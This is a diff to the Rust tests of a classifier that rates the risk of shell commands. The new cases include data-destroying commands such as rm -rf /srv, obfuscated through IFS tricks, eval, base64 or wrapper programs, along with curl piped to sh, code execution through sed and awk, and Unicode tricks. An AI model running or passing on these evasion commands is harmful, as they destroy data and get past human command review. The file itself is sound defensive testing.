@@ -86,7 +86,12 @@ fn dynamic_and_piped_code_is_never_low() {
     check(&[
         ("$X -rf /", High),
         ("$(echo rm) -rf /srv", High),
-        ("$CMD status", Medium),
+        // Principle 2: a program name the reviewer cannot read is high.
+        ("$CMD status", High),
+        ("{rm,-rf,/srv}", High),
+        ("rm${IFS}-rf${IFS}/srv", High),
+        ("X='rm -rf /srv'; eval \"$X\"", High),
+        ("bash <<< \"$(echo cm0gLXJmIC8= | base64 -d)\"", High),
         ("curl https://x.example/install.sh | sh", High),
         ("echo cm0gLXJmIC8= | base64 -d | bash", High),
         ("bash", High),
@@ -255,4 +260,82 @@ fn non_utf8_bytes_are_high() {
     assert_eq!(a.tier, Tier::High);
     assert_eq!(a.reasons[0].rule, "input.not-utf8");
     assert_eq!(c.classify_bytes(b"ls", &Context::default()).tier, Tier::Low);
+}
+
+#[test]
+fn low_only_by_proof() {
+    use Tier::*;
+    check(&[
+        // Known programs in read-only modes.
+        ("ls -la /var/log", Low),
+        ("grep -rn TODO src/", Low),
+        ("tail -n 50 /var/log/syslog", Low),
+        ("sort -u names.txt", Low),
+        ("tar -tzf backup.tgz", Low),
+        ("gzip -dc app.log.gz", Low),
+        ("sed -n '/error/p' app.log", Low),
+        ("awk '{print $1}' access.log", Low),
+        ("curl -s https://example.com/health", Low),
+        // An unknown flag of a known program, or a write/exec mode: never low.
+        ("ls --frobnicate", Medium),
+        ("sort -o /tmp/out data.txt", Medium),
+        ("tar -xzf backup.tgz", Medium),
+        ("gzip app.log", Medium),
+        ("sed -i s/a/b/ f", Medium),
+        ("sed '1e id' /etc/hostname", High),
+        ("sed 's/.*/rm -rf &/e' list", High),
+        ("awk '{print | \"sort -u\"}' jobs", Medium),
+        ("awk '{print | \"sh\"}' jobs", High),
+        ("awk -v c=sh '{print | c}' jobs", High),
+        ("awk '{system($0)}' jobs", High),
+        ("curl -o /tmp/x https://example.com/", Medium),
+        ("curl dict://127.0.0.1:6379/info", Medium),
+        ("top", Medium),
+        ("top -b -n 1", Low),
+        ("tee /tmp/x", Medium),
+        ("unknown-tool --list", Medium),
+    ]);
+}
+
+#[test]
+fn wrappers_unwrap_generically() {
+    use Tier::*;
+    check(&[
+        ("strace -f rm -rf /srv", High),
+        ("flock /tmp/l rm -rf /srv", High),
+        ("taskset -c 0 rm -rf /srv", High),
+        ("prlimit --nofile=10 rm -rf /srv", High),
+        ("ionice -c 3 rm -rf /srv", High),
+        ("chrt -b 0 rm -rf /srv", High),
+        ("numactl --interleave=all rm -rf /srv", High),
+        ("script -qc 'rm -rf /srv' /dev/null", High),
+        ("env -S'rm -rf /srv'", High),
+        ("taskset -p 1 1234", Medium),
+        ("strace -o /tmp/trace -p 1234", Medium),
+    ]);
+}
+
+#[test]
+fn hidden_characters_are_high_and_located() {
+    let c = Classifier::builtin();
+    for (text, code) in [
+        ("echo hi \u{202E}; rm -rf /srv", "U+202E"),
+        ("l\u{200B}s -la", "U+200B"),
+        ("\u{0441}at /etc/passwd", "U+0441"),
+        ("echo ok\u{1b}[2K", "U+001B"),
+    ] {
+        let a = c.classify(text, &Context::default());
+        assert_eq!(a.tier, Tier::High, "{text:?}: {:?}", a.reasons);
+        let r = a
+            .reasons
+            .iter()
+            .find(|r| r.rule.starts_with("input."))
+            .unwrap_or_else(|| panic!("{text:?}: no input.* reason: {:?}", a.reasons));
+        assert!(r.text.contains(code), "{text:?}: {}", r.text);
+        let (start, end) = r.span.unwrap_or_else(|| panic!("{text:?}: no span"));
+        assert!(
+            end > start && end <= text.len(),
+            "{text:?}: span {start}..{end}"
+        );
+    }
 }
